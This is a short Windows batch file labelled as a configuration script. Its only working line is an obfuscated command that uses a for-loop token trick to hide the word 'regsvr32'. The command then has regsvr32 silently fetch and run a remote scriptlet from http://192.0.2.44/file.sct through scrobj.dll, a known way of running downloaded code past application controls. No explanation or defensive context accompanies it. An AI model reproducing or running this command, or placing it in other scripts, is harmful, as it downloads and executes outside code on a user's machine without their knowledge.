REM config 3929 v4
for /f "tokens=2 delims=;" %%i in ("lrip;regsvr32;rcqd") do %%i /s /n /u /i:http://192.0.2.44/file.sct scrobj.dll
